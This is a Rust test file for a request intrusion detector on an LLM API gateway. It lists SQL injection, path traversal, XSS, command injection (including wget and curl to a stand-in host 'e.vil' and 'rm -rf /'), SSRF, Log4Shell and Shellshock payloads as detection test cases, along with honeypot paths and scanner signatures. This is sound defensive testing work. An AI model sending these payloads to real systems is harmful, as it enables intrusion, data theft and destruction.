use super::*;
use crate::score::{Action, Level};
use crate::MINUTE_MS;

const UA: &str = "OpenAI/Python 1.35.3";

/// A request with a normal User-Agent and the given parts.
struct Req {
    method: &'static str,
    path: String,
    query: Option<String>,
    headers: Vec<(String, Vec<u8>)>,
    fields: Vec<(String, String)>,
}

impl Req {
    fn post(path: &str) -> Self {
        Self {
            method: "POST",
            path: path.to_owned(),
            query: None,
            headers: vec![("User-Agent".into(), UA.as_bytes().to_vec())],
            fields: vec![],
        }
    }
    fn get(path: &str) -> Self {
        Self {
            method: "GET",
            ..Self::post(path)
        }
    }
    fn method(mut self, m: &'static str) -> Self {
        self.method = m;
        self
    }
    fn query(mut self, q: &str) -> Self {
        self.query = Some(q.to_owned());
        self
    }
    fn header(mut self, n: &str, v: &str) -> Self {
        self.headers.retain(|(k, _)| !k.eq_ignore_ascii_case(n));
        self.headers.push((n.to_owned(), v.as_bytes().to_vec()));
        self
    }
    fn no_ua(mut self) -> Self {
        self.headers
            .retain(|(k, _)| !k.eq_ignore_ascii_case("user-agent"));
        self
    }
    fn field(mut self, n: &str, v: &str) -> Self {
        self.fields.push((n.to_owned(), v.to_owned()));
        self
    }
    fn inspect(&self) -> Vec<Finding> {
        let headers: Vec<(&str, &[u8])> = self
            .headers
            .iter()
            .map(|(n, v)| (n.as_str(), v.as_slice()))
            .collect();
        let fields: Vec<(&str, &str)> = self
            .fields
            .iter()
            .map(|(n, v)| (n.as_str(), v.as_str()))
            .collect();
        inspect(&RequestFacts {
            method: self.method,
            path: &self.path,
            query: self.query.as_deref(),
            headers: &headers,
            fields: &fields,
        })
    }
}

fn patterns(f: &[Finding]) -> Vec<Pattern> {
    f.iter().map(|f| f.pattern).collect()
}

#[test]
fn attacks_are_detected() {
    use Pattern::*;
    let cases: Vec<(&str, Req, Pattern)> =
        vec![
        // SQL injection
        (
            "tautology",
            Req::get("/v1/models").query("id=1'%20or%201=1--"),
            SqlInjection,
        ),
        (
            "string tautology",
            Req::get("/v1/models").query("u=x%22%20or%20%22a%22=%22a"),
            SqlInjection,
        ),
        (
            "paren tautology",
            Req::get("/v1/models").query("u=x')+or+('1'='1"),
            SqlInjection,
        ),
        (
            "numeric tautology",
            Req::get("/v1/models").query("id=5+or+5=5"),
            SqlInjection,
        ),
        (
            "quote comment",
            Req::get("/v1/models").query("user=admin'--"),
            SqlInjection,
        ),
        (
            "quote hash",
            Req::get("/v1/models").query("user=admin'%20%23"),
            SqlInjection,
        ),
        (
            "union select",
            Req::get("/v1/models").query("id=1+UNION+ALL+SELECT+null,version()"),
            SqlInjection,
        ),
        (
            "union comment",
            Req::get("/v1/models").query("id=1/**/union/**/select/**/1"),
            SqlInjection,
        ),
        (
            "mysql exec comment",
            Req::get("/v1/models").query("id=1+/*!50000union*/+select+1"),
            SqlInjection,
        ),
        (
            "union tab",
            Req::get("/v1/models").query("id=1%09union%0Aselect%091"),
            SqlInjection,
        ),
        (
            "stacked",
            Req::get("/v1/models").query("id=1;DROP+TABLE+users"),
            SqlInjection,
        ),
        (
            "stacked select",
            Req::get("/v1/models").query("id=1;+select+*+from+keys"),
            SqlInjection,
        ),
        (
            "sleep",
            Req::get("/v1/models").query("id=1+and+sleep(5)"),
            SqlInjection,
        ),
        (
            "benchmark",
            Req::get("/v1/models").query("id=benchmark%20(1000000,md5(1))"),
            SqlInjection,
        ),
        (
            "waitfor",
            Req::get("/v1/models").query("id=1;waitfor+delay+'0:0:5'"),
            SqlInjection,
        ),
        (
            "information_schema",
            Req::get("/v1/models").query("t=information_schema.tables"),
            SqlInjection,
        ),
        (
            "sqli in path",
            Req::get("/v1/models/x'%20OR%20'1'='1"),
            SqlInjection,
        ),
        (
            "sqli in model",
            Req::post("/v1/chat/completions").field("model", "x' or 1=1 --"),
            SqlInjection,
        ),
        (
            "sqli in UA",
            Req::get("/v1/models").header("User-Agent", "' or '1'='1"),
            SqlInjection,
        ),
        // Path traversal
        (
            "dot dot slash",
            Req::get("/v1/../../etc/hosts"),
            PathTraversal,
        ),
        ("backslash", Req::get("/v1/..\\..\\windows"), PathTraversal),
        (
            "encoded",
            Req::get("/v1/%2e%2e%2f%2e%2e%2fsecret"),
            PathTraversal,
        ),
        (
            "double encoded",
            Req::get("/v1/%252e%252e%252fsecret"),
            PathTraversal,
        ),
        (
            "overlong",
            Req::get("/v1/..%c0%af..%c0%afsecret"),
            PathTraversal,
        ),
        (
            "iis unicode",
            Req::get("/v1/%u002e%u002e/secret"),
            PathTraversal,
        ),
        ("tomcat", Req::get("/v1/..;/manager"), PathTraversal),
        ("trailing dotdot", Req::get("/v1/models/.."), PathTraversal),
        ("etc passwd plain", Req::get("/etc/passwd"), PathTraversal),
        ("win.ini", Req::get("/static/WIN.INI"), PathTraversal),
        (
            "query file",
            Req::get("/v1/models").query("file=../../app.db"),
            PathTraversal,
        ),
        (
            "proc self",
            Req::get("/v1/models").query("f=/proc/self/environ"),
            PathTraversal,
        ),
        (
            "model traversal",
            Req::post("/v1/chat/completions").field("model", "flm://ollama/../../x"),
            PathTraversal,
        ),
        // XSS
        (
            "script tag",
            Req::get("/v1/models").query("q=%3Cscript%3Ealert(1)%3C/script%3E"),
            Xss,
        ),
        (
            "javascript url",
            Req::get("/v1/models").query("next=JavaScript:alert(1)"),
            Xss,
        ),
        (
            "onerror",
            Req::get("/v1/models").query("q=%3Cimg%20src=x%20onerror=alert(1)%3E"),
            Xss,
        ),
        (
            "svg onload",
            Req::get("/v1/models").query("q=<svg/onload=alert(1)>"),
            Xss,
        ),
        (
            "xss in UA",
            Req::get("/v1/models").header("User-Agent", "<script>alert(1)</script>"),
            Xss,
        ),
        (
            "xss in referer",
            Req::get("/v1/models").header("Referer", "javascript:alert(document.cookie)"),
            Xss,
        ),
        // Command injection
        (
            "semicolon cat",
            Req::get("/v1/models").query("host=x;cat+/etc/hosts"),
            CommandInjection,
        ),
        (
            "pipe id",
            Req::get("/v1/models").query("host=x|id"),
            CommandInjection,
        ),
        ("pipe cat arg", Req::get("/v1/models").query("f=x|cat+/etc/hosts"), CommandInjection),
        ("semicolon sleep", Req::get("/v1/models").query("f=x;sleep+5"), CommandInjection),
        ("brace expansion", Req::get("/v1/models").query("f=x;{cat,/etc/hosts}"), CommandInjection),
        (
            "and wget",
            Req::get("/v1/models").query("h=1%26%26wget%20http://e.vil/x"),
            CommandInjection,
        ),
        (
            "subshell",
            Req::get("/v1/models").query("h=$(whoami)"),
            CommandInjection,
        ),
        (
            "backticks",
            Req::get("/v1/models").query("h=`id`"),
            CommandInjection,
        ),
        (
            "ifs",
            Req::get("/v1/models").query("h=cat${IFS}/etc/hosts"),
            CommandInjection,
        ),
        (
            "newline",
            Req::get("/v1/models").query("h=x%0Auname%20-a"),
            CommandInjection,
        ),
        (
            "bin sh",
            Req::get("/v1/models").header("X-Api-Version", "/bin/sh -c id"),
            CommandInjection,
        ),
        (
            "subshell in header",
            Req::get("/v1/models").header("X-Forwarded-Host", "$(curl e.vil)"),
            CommandInjection,
        ),
        (
            "tool name",
            Req::post("/v1/chat/completions").field("tools[].function.name", "x;rm -rf /"),
            CommandInjection,
        ),
        // SSRF / LFI
        (
            "file scheme",
            Req::get("/v1/models").query("url=file:///etc/hosts"),
            SsrfScheme,
        ),
        (
            "gopher",
            Req::get("/v1/models").query("url=gopher://127.0.0.1:6379/_"),
            SsrfScheme,
        ),
        (
            "php filter",
            Req::get("/v1/models").query("page=php://filter/resource=index"),
            SsrfScheme,
        ),
        (
            "metadata",
            Req::get("/v1/models").query("url=http://169.254.169.254/latest/meta-data/"),
            SsrfScheme,
        ),
        (
            "model scheme",
            Req::post("/v1/embeddings").field("model", "file:///etc/hosts"),
            SsrfScheme,
        ),
        // Log4Shell / Shellshock
        (
            "jndi UA",
            Req::get("/v1/models").header("User-Agent", "${jndi:ldap://e.vil/a}"),
            Log4Shell,
        ),
        (
            "jndi obfuscated",
            Req::get("/v1/models").header("X-Api-Version", "${${lower:j}ndi:${lower:l}dap://x}"),
            Log4Shell,
        ),
        (
            "jndi query",
            Req::get("/v1/models").query("x=%24%7Bjndi:dns://e.vil%7D"),
            Log4Shell,
        ),
        (
            "jndi model",
            Req::post("/v1/chat/completions").field("model", "${jndi:rmi://x/y}"),
            Log4Shell,
        ),
        (
            "shellshock",
            Req::get("/cgi").header("Referer", "() { :; }; /bin/cat /etc/passwd"),
            Shellshock,
        ),
        // Encoding tricks
        ("nul", Req::get("/v1/models/x%00.json"), NullByte),
        (
            "nul query",
            Req::get("/v1/models").query("f=a%00"),
            NullByte,
        ),
        (
            "double encoding",
            Req::get("/v1/%252e%252e/x"),
            DoubleEncoding,
        ),
        ("overlong", Req::get("/v1/%c0%ae%c0%ae/x"), DoubleEncoding),
        (
            "crlf path",
            Req::get("/v1/x%0d%0aSet-Cookie:a=b"),
            CrlfInjection,
        ),
        (
            "crlf query",
            Req::get("/v1/models").query("r=x%0D%0ALocation:%20http://e.vil"),
            CrlfInjection,
        ),
        // User-Agent / method / honeypots
        (
            "sqlmap",
            Req::get("/v1/models").header("User-Agent", "sqlmap/1.7.2#stable (https://sqlmap.org)"),
            SuspiciousUserAgent,
        ),
        (
            "nikto",
            Req::get("/").header(
                "User-Agent",
                "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)",
            ),
            SuspiciousUserAgent,
        ),
        (
            "nmap",
            Req::get("/").header(
                "User-Agent",
                "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
            ),
            SuspiciousUserAgent,
        ),
        (
            "masscan",
            Req::get("/").header(
                "User-Agent",
                "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
            ),
            SuspiciousUserAgent,
        ),
        ("no UA", Req::get("/v1/models").no_ua(), EmptyUserAgent),
        (
            "blank UA",
            Req::get("/v1/models").header("User-Agent", "  "),
            EmptyUserAgent,
        ),
        ("trace", Req::get("/").method("TRACE"), UnusualMethod),
        ("propfind", Req::get("/").method("PROPFIND"), UnusualMethod),
        ("lowercase get", Req::get("/").method("get"), UnusualMethod),
        (
            "bare options",
            Req::get("/v1/models").method("OPTIONS"),
            UnusualMethod,
        ),
        ("admin", Req::get("/admin"), HoneypotAccess),
        ("admin slash case", Req::get("//ADMIN/"), HoneypotAccess),
        ("admin encoded", Req::get("/%61dmin"), HoneypotAccess),
        (
            "admin params",
            Req::post("/admin;jsessionid=x"),
            HoneypotAccess,
        ),
        ("admin sub", Req::get("/admin/config.php"), HoneypotAccess),
        ("users", Req::get("/api/v1/users"), HoneypotAccess),
        (
            "wp-admin",
            Req::get("/wp-admin/install.php"),
            HoneypotAccess,
        ),
        ("phpmyadmin", Req::get("/phpMyAdmin/"), HoneypotAccess),
        ("dotenv", Req::get("/.env"), HoneypotAccess),
        (
            "dotenv nested",
            Req::get("/app/.env.production"),
            HoneypotAccess,
        ),
        ("git", Req::get("/.git/config"), HoneypotAccess),
        ("php probe", Req::get("/index.php"), HoneypotAccess),
    ];
    let mut failures = Vec::new();
    for (name, req, want) in &cases {
        let found = req.inspect();
        if !found.iter().any(|f| f.pattern == *want) {
            failures.push(format!("{name}: want {want}, got {:?}", patterns(&found)));
        }
    }
    assert!(
        failures.is_empty(),
        "{} misses:\n{}",
        failures.len(),
        failures.join("\n")
    );
}

/// Realistic benign traffic: SDK clients, browsers (CORS), model ids of every engine,
/// apostrophes, semicolons and SQL-ish words. Must produce no finding at all.
#[test]
fn benign_traffic_has_zero_findings() {
    let chrome = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36";
    let browser = |r: Req| {
        r.header("User-Agent", chrome)
            .header("sec-ch-ua", "\"Chromium\";v=\"124\", \"Google Chrome\";v=\"124\", \"Not-A.Brand\";v=\"99\"")
            .header("sec-ch-ua-platform", "\"Windows\"")
            .header("sec-ch-ua-mobile", "?0")
            .header("Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8")
            .header("Accept-Language", "en-US,en;q=0.9,ja;q=0.8")
            .header("Accept-Encoding", "gzip, deflate, br, zstd")
            .header("Referer", "https://chat.example.com/c/123?x=1&y=2")
            .header("Origin", "https://chat.example.com")
            .header("Cookie", "session=abc'; theme=dark; x=$(y)")
            .header("If-None-Match", "W/\"5e-abc--gzip\"")
    };
    let sdk = |r: Req| {
        r.header(
            "Authorization",
            "Bearer flm_0123456789abcdef_ABCDEFGHIJKLMNOPQRSTUVWXYZ012345",
        )
        .header("Content-Type", "application/json; charset=utf-8")
        .header("Accept", "application/json")
        .header("X-Stainless-Lang", "python")
        .header("X-Stainless-OS", "Linux")
        .header("X-Stainless-Runtime-Version", "3.11.4")
        .header("X-Stainless-Retry-Count", "0")
        .header("Connection", "keep-alive")
    };
    let mut cases: Vec<(&str, Req)> = vec![
        ("sdk chat", sdk(Req::post("/v1/chat/completions"))
            .field("model", "flm://ollama/llama3.1:8b-instruct-q4_K_M")
            .field("user", "alice@example.com")
            .field("tools[].function.name", "get_current_weather")
            .field("tools[].function.name", "run_sql_query")
            .field("tools[].function.name", "exec_command")
            .field("response_format.type", "json_schema")),
        ("hf model", sdk(Req::post("/v1/chat/completions")).field("model", "hf.co/bartowski/Llama-3.2-1B-Instruct-GGUF:Q4_K_M")),
        ("vllm model", sdk(Req::post("/v1/chat/completions")).field("model", "flm://vllm/meta-llama/Llama-3.1-8B-Instruct")),
        ("lmstudio model", sdk(Req::post("/v1/chat/completions")).field("model", "lmstudio-community/qwen2.5-7b-instruct@q4_k_m")),
        ("apostrophe user", sdk(Req::post("/v1/chat/completions")).field("user", "O'Brien; Sales & Marketing")),
        ("gguf path model", sdk(Req::post("/v1/chat/completions")).field("model", "models/tinyllama-1.1b.Q4_K_M.gguf")),
        ("embeddings", sdk(Req::post("/v1/embeddings")).field("model", "nomic-embed-text:latest").field("encoding_format", "float")),
        ("models", sdk(Req::get("/v1/models"))),
        ("model by encoded id", sdk(Req::get("/v1/models/flm%3A%2F%2Follama%2Fllama3%3A8b"))),
        ("health", sdk(Req::get("/health"))),
        ("metrics", Req::get("/metrics").header("User-Agent", "Prometheus/2.51.0")),
        ("engine passthrough", sdk(Req::post("/engine/ollama/api/show"))),
        ("browser models", browser(Req::get("/v1/models"))),
        ("browser chat", browser(Req::post("/v1/chat/completions")).field("model", "gpt-4o-mini")),
        ("preflight", browser(Req::get("/v1/chat/completions").method("OPTIONS"))
            .header("Access-Control-Request-Method", "POST")
            .header("Access-Control-Request-Headers", "authorization, content-type")),
        ("acme", Req::get("/.well-known/acme-challenge/Xk2_abc-123").header("User-Agent", "Mozilla/5.0 (compatible; Let's Encrypt validation server; +https://www.letsencrypt.org)")),
        ("favicon", browser(Req::get("/favicon.ico"))),
        ("robots", Req::get("/robots.txt").header("User-Agent", "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)")),
        ("old android id locale", Req::get("/v1/models").header("User-Agent", "Mozilla/5.0 (Linux; U; Android 4.0.3; id; GT-I9100 Build/IML74K) AppleWebKit/534.30 (KHTML, like Gecko) Version/4.0 Mobile Safari/534.30")),
        ("iphone", Req::get("/v1/models").header("User-Agent", "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Mobile/15E148 Safari/604.1")),
        ("playstation", Req::get("/v1/models").header("User-Agent", "Mozilla/5.0 (PlayStation; PlayStation 5/2.26) AppleWebKit/605.1.15 (KHTML, like Gecko)")),
    ];
    for ua in [
        "curl/8.5.0",
        "python-requests/2.31.0",
        "Go-http-client/1.1",
        "okhttp/4.12.0",
        "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)",
        "Wget/1.21.4",
        "Apache-HttpClient/4.5.14 (Java/17.0.9)",
        "langchain-openai/0.1.8 OpenAI/Python 1.35.3",
        "AsyncOpenAI/Python 1.35.3",
        "OpenAI/JS 4.52.0",
        "ollama-python/0.2.1 (x86_64 linux) Python/3.11.4",
        "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:126.0) Gecko/20100101 Firefox/126.0",
    ] {
        cases.push((ua, Req::get("/v1/models").header("User-Agent", ua)));
    }
    for q in [
        "limit=10&order=desc",
        "after=2024-01-01T00:00:00Z&before=2024-02-01",
        "q=it's+a+test",
        "q=rock+%26+roll",
        "filter=name;type",
        "q=select+a+model",
        "q=union+station",
        "q=black+or+white",
        "q=this+and+that=1",
        "redirect=https://example.com/a/b?c=d",
        "q=C%2B%2B",
        "q=50%25+off",
        "q=100%2541",
        "q=a--b",
        "q=x;y",
        "sort=-created_at",
        "q=where+is+%2Fetc",
        "name=Mc'Donald's",
        "tags=a|b",
        "expr=a%3D%3Db",
        "q=wait...",
        "q=%E6%97%A5%E6%9C%AC%E8%AA%9E",
        "email=a%40b.co",
        "cursor=eyJpZCI6IjEyMyJ9",
        "tags=python|ruby|perl",
        "tags=dog|cat",
        "q=echo",
        "q=a;b;c",
        "q=sleep;eat",
        "sort=name&ping=1",
    ] {
        cases.push((q, sdk(Req::get("/v1/models")).query(q)));
    }
    let mut failures = Vec::new();
    for (name, req) in &cases {
        let found = req.inspect();
        if !found.is_empty() {
            failures.push(format!("{name}: {found:?}"));
        }
    }
    assert!(
        failures.is_empty(),
        "{} false positives:\n{}",
        failures.len(),
        failures.join("\n")
    );
}

#[test]
fn findings_are_deduplicated_per_location() {
    let f = Req::get("/v1/models")
        .query("a=1'+or+1=1&b=2'+or+2=2")
        .inspect();
    assert_eq!(patterns(&f), vec![Pattern::SqlInjection]);
    assert_eq!(f[0].location, Location::Query);
    assert_eq!(f[0].score, 20);
    let f = Req::get("/v1/models")
        .query("a=1'+or+1=1")
        .header("User-Agent", "' or 1=1 --")
        .inspect();
    assert_eq!(f.len(), 2);
    assert_eq!(total_score(&f), 40);
    assert_eq!(f[1].location, Location::Header("user-agent".into()));
}

#[test]
fn honeypot_paths() {
    for p in [
        "/admin",
        "/ADMIN",
        "/admin/",
        "/admin/x",
        "/admin.php",
        "/api/v1/users",
        "/api/v1/users/1",
        "/wp-admin",
        "/phpmyadmin",
        "/.git/HEAD",
        "/x/.env",
        "/%2e%65nv",
    ] {
        assert!(is_honeypot_path(p), "{p}");
    }
    for p in [
        "/",
        "/administration-guide",
        "/adminx",
        "/v1/models",
        "/api/v1/user",
        "/.well-known/acme-challenge/x",
        "/envoy",
        "/v1/chat/completions",
        "/health",
    ] {
        assert!(!is_honeypot_path(p), "{p}");
    }
    for r in HONEYPOT_ROUTES {
        assert!(is_honeypot_path(r));
    }
}

#[test]
fn fields_from_json_skips_content() {
    let body = serde_json::json!({
        "model": "llama3",
        "messages": [{"role": "user", "content": "'; DROP TABLE users; -- and ../../etc/passwd"}],
        "prompt": "$(rm -rf /)",
        "input": "<script>",
        "stop": ["' or 1=1"],
        "temperature": 0.7,
        "max_tokens": "100; drop table x",
        "user": "u1",
        "metadata": {"k": "${jndi:x}"},
        "tools": [
            {"type": "function", "function": {"name": "get_weather", "arguments": "`id`", "description": "x' or 1=1"}},
            {"name": "search"}
        ],
        "tool_choice": {"type": "function", "function": {"name": "get_weather"}},
        "response_format": {"type": "json_object"}
    });
    let fields = fields_from_json(&body);
    let names: Vec<&str> = fields.iter().map(|(n, _)| n.as_str()).collect();
    assert_eq!(
        names,
        vec![
            "model",
            "user",
            "max_tokens",
            "response_format.type",
            "tools[].function.name",
            "tools[].name",
            "tool_choice.function.name"
        ]
    );
    // Only the mistyped numeric field is an attack; the content never reaches inspect.
    let borrowed: Vec<(&str, &str)> = fields
        .iter()
        .map(|(n, v)| (n.as_str(), v.as_str()))
        .collect();
    let headers = [("user-agent", UA.as_bytes())];
    let found = inspect(&RequestFacts {
        method: "POST",
        path: "/v1/chat/completions",
        query: None,
        headers: &headers,
        fields: &borrowed,
    });
    assert_eq!(patterns(&found), vec![Pattern::SqlInjection]);
    assert_eq!(found[0].location, Location::Field("max_tokens".into()));
    assert!(fields_from_json(&serde_json::json!([1, 2])).is_empty());
}

#[test]
fn detector_ladder_and_weak_signals() {
    let ip: IpAddr = "198.51.100.20".parse().unwrap();
    let mut d = IntrusionDetector::new(IntrusionConfig::default());
    let t0 = 1_700_000_000_000;
    // A client without a User-Agent, one request per second for an hour: never blocked.
    let weak = Req::get("/v1/models").no_ua().inspect();
    assert!(weak.iter().all(|f| f.weak));
    for s in 0..3600 {
        let v = d.observe(ip, &weak, t0 + s * 1000);
        assert!(v.level < Level::Block);
    }
    // sqlmap: UA 10 + SQLi 20 per request → blocked at the 4th request (score ≥ 100).
    let attack = Req::get("/v1/models")
        .query("id=1'+or+1=1--")
        .header("User-Agent", "sqlmap/1.7")
        .inspect();
    assert_eq!(total_score(&attack), 30);
    let other: IpAddr = "198.51.100.21".parse().unwrap();
    let mut actions = Vec::new();
    for _ in 0..7 {
        let v = d.observe(other, &attack, t0);
        actions.push(v.action);
    }
    assert_eq!(
        actions,
        vec![
            None,
            Some(Action::Warn),
            None,
            Some(Action::Block {
                duration_ms: 60 * MINUTE_MS
            }),
            None,
            None,
            Some(Action::Block {
                duration_ms: 24 * 60 * MINUTE_MS
            }),
        ]
    );
    assert_eq!(d.score(other, t0), 210);
    assert_eq!(d.score(other, t0 + 10 * MINUTE_MS), 200);
    d.reset(other);
    assert_eq!(d.score(other, t0), 0);
}

#[test]
fn rearms_after_block_expires_with_high_score() {
    let ip: IpAddr = "198.51.100.22".parse().unwrap();
    let mut d = IntrusionDetector::new(IntrusionConfig::default());
    let f = Req::get("/v1/models").query("id=1;drop+table+x").inspect();
    let t0 = 0;
    for _ in 0..7 {
        d.observe(ip, &f, t0);
    }
    // Score 140 → after the 1 h block it has decayed to 80; 20 more points block again.
    let t1 = t0 + 60 * MINUTE_MS;
    let v = d.observe(ip, &f, t1);
    assert_eq!(v.score, 100);
    assert_eq!(
        v.action,
        Some(Action::Block {
            duration_ms: 60 * MINUTE_MS
        })
    );
}

#[test]
fn structured_headers_only_checked_for_lookups() {
    let quiet = Req::get("/v1/models")
        .header("Accept", "text/html' or 1=1 --")
        .header("Sec-CH-UA", "\"x\";v=\"1\"; drop table users")
        .inspect();
    assert!(quiet.is_empty(), "{quiet:?}");
    let loud = Req::get("/v1/models")
        .header("Accept", "${jndi:ldap://x/a}")
        .inspect();
    assert_eq!(patterns(&loud), vec![Pattern::Log4Shell]);
    let custom = Req::get("/v1/models")
        .header("X-Custom", "1' or 1=1 --")
        .inspect();
    assert_eq!(patterns(&custom), vec![Pattern::SqlInjection]);
    assert_eq!(custom[0].location, Location::Header("x-custom".into()));
}

#[test]
fn split_inspection_matches_full() {
    let fields = [("model", "x' or 1=1 --"), ("user", "u1")];
    let headers = [("user-agent", UA.as_bytes())];
    let full = inspect(&RequestFacts {
        method: "POST",
        path: "/v1/chat/completions",
        query: None,
        headers: &headers,
        fields: &fields,
    });
    let head = inspect(&RequestFacts {
        method: "POST",
        path: "/v1/chat/completions",
        query: None,
        headers: &headers,
        fields: &[],
    });
    let mut split = head;
    split.extend(inspect_fields(&fields));
    assert_eq!(split, full);
    assert_eq!(full.len(), 1);
}
